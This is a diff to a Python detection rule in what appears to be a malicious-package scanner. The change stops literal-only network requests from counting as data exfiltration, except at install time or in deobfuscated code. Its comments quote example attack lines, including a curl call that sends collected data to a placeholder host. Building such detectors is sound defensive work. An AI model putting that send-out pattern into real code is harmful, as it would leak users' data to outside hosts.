@@ -174,6 +174,12 @@ def exfiltration(ctx: Context) -> Iterable[Finding]:
     # probe collects goes out in `curl https://x/p/${id}`.
     sources = _sources(ctx)
     sinks = [f for f in [*ctx.of(SIGNAL_SINK), *_network_spawns(ctx)] if not _loopback(f)]
+    if ctx.when is not When.INSTALL and not any("deobfuscated" in f.props for f in sources):
+        # A request written entirely as literals (`fetch("https://x/sample.ogg")`) carries
+        # none of the data read elsewhere: it is a download, not the send. (At install time
+        # such a request is itself the phone-home, see beacon(); in code that hid its strings
+        # the send itself may be one we cannot resolve, so the request stays the evidence.)
+        sinks = [f for f in sinks if not f.props.get("bare")]
     if not sources or not sinks or not _sends(ctx, sinks):
         return []
     kinds = {str(f.props.get("kind", "")) for f in sources}
